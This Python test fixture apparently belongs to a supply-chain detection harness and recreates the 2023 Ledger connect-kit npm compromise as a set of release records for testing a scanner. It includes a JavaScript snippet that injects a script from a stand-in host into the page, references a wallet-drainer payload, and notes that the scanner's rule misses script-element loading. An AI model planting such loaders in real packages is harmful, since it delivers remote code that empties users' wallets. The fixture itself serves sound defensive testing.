"""@ledgerhq/connect-kit 1.1.5 to 1.1.7 (2023-12-14): the npm session of one who had left was phished; a drainer of wallets in the bundle.

By the record: from 09:49 UTC, no commit and no tag; pages took the bundle from a CDN at a floating version, so that all of them served
it within minutes. It runs in browsers, and empties wallets. Down, with a clean release, at 13:35. Nothing runs at install.
"""

from collections.abc import Callable

from gauntlet import shapes
from gauntlet.drainers import drainer
from gauntlet.incident import Advisory, Incident, Package, Release, utc
from pratique.core.names import Ecosystem

_KIT = """
const wallets = { ethereum: { name: 'Ledger Extension', key: 'isLedgerConnect' } };
const options = { provider: 'ethereum', chains: [1], rpc: {}, log: false };
const listeners = {};
function on(name, listener) { (listeners[name] = listeners[name] || []).push(listener); }
function tell(name, value) { (listeners[name] || []).forEach((listener) => listener(value)); }
function checkSupport(given) {
  Object.assign(options, given);
  const found = window[options.provider];
  return { isLedgerConnectSupported: /Safari/.test(navigator.userAgent), isLedgerConnectEnabled: !!(found && found[wallets.ethereum.key]) };
}
function showModal(kind) {
  const root = document.getElementById('ledger-ck-modal') || document.body.appendChild(document.createElement('div'));
  root.id = 'ledger-ck-modal';
  root.dataset.kind = kind;
  root.textContent = kind === 'install' ? 'Install the extension' : 'Open Ledger Live';
  root.onclick = () => root.remove();
}
async function getProvider() {
  const state = checkSupport({});
  if (state.isLedgerConnectEnabled) { return window[options.provider]; }
  showModal(state.isLedgerConnectSupported ? 'install' : 'live');
  return { request: (asked) => new Promise((done, fail) => { on('answer', done); tell('asked', asked); setTimeout(fail, 60000); }) };
}
const kit = { checkSupport: checkSupport, getProvider: getProvider, showModal: showModal };
if (typeof module === 'object') { module.exports = kit; } else { window.ledgerConnectKit = kit; }
"""
# The first two of the three: the kit as it was, and a script from elsewhere.
_LOADS = """
const script = document.createElement('script');
script.src = 'https://cdn.invalid/npm/marker@latest/index.js';
script.async = true;
document.head.appendChild(script);
"""


def _wrapped(code: str) -> str:
    return f"(() => {{{code}}})();"


def _kit() -> str:
    return shapes.bundle(_wrapped(_KIT), size=200_000, seed=23)


def _loading() -> str:
    return shapes.bundle(_wrapped(_KIT + _LOADS), size=200_000, seed=23)


def _drains() -> str:
    return shapes.heavy(drainer(), size=120_000, seed=14, prefix="")


def _release(version: str, at: str, publisher: str, umd: Callable[[], str] = _kit) -> Release:
    return Release(
        version=version,
        at=utc(at),
        publisher=publisher,
        maintainers=("former", "kit-team"),
        files=shapes.Made(
            {
                "dist/umd/index.js": umd,
                "dist/types/index.d.ts": "export declare function getProvider(): Promise<unknown>;\n",
                "README.md": "# Connect Kit\n\nConnects an app in a browser to a wallet.\n",
            }
        ),
        more={"main": "dist/umd/index.js", "types": "dist/types/index.d.ts"},
    )


_FIRST = _release("1.1.5", "2023-12-14T09:49:00Z", "former", _loading)
_GUILTY = {"@ledgerhq/connect-kit": ("1.1.5", "1.1.6", "1.1.7")}

INCIDENT = Incident(
    id="ledger-connect-kit-2023",
    title=(
        "an attacker phished the npm session of a former Ledger employee; the connect-kit bundle that web pages load "
        "drained wallets"
    ),
    copy=(
        "in our copy, connect-kit 1.1.5 and 1.1.6 load a script from another host into the page, and 1.1.7 replaces "
        "the kit with obfuscated code"
    ),
    ecosystem=Ecosystem.NPM,
    at=_FIRST.at,
    packages=(
        Package(
            name="@ledgerhq/connect-kit",
            releases=(
                _release("1.0.4", "2023-01-20T10:00:00Z", "former"),
                _release("1.0.5", "2023-03-02T10:00:00Z", "former"),
                _release("1.1.0", "2023-07-11T10:00:00Z", "kit-team"),
                _release("1.1.2", "2023-09-05T10:00:00Z", "kit-team"),
                _release("1.1.4", "2023-11-07T10:00:00Z", "kit-team"),
                _FIRST,
                _release("1.1.6", "2023-12-14T10:12:00Z", "former", _loading),
                _release("1.1.7", "2023-12-14T10:37:00Z", "former", _drains),
                _release("1.1.8", "2023-12-14T13:35:00Z", "kit-team"),
            ),
        ),
    ),
    asks={"@ledgerhq/connect-kit": "^1.1.0"},
    good={"@ledgerhq/connect-kit": "1.1.4"},
    bad={"@ledgerhq/connect-kit": ("1.1.5", "1.1.6", "1.1.7")},
    guilty=_GUILTY,
    gone_at=utc("2023-12-14T13:35:00Z"),
    advisory=Advisory(id="GHSA-g9hp-hq3h-h6hx", at=utc("2023-12-14T15:17:17Z"), about=_GUILTY),
    invented="days of earlier releases, publish minutes, accounts, and the form of the code in each release",
    missed=(
        "the gate holds connect-kit 1.1.7 as obfuscated; the version range then resolves to 1.1.6, which creates a "
        "`<script>` element with a new host. The rule `new-host-reached` covers calls that send data to a new host, "
        "but not script elements, because analytics and payment libraries load scripts in this way. Pratique misses connect-kit 1.1.6 until the rule is extended and measured"
    ),
)
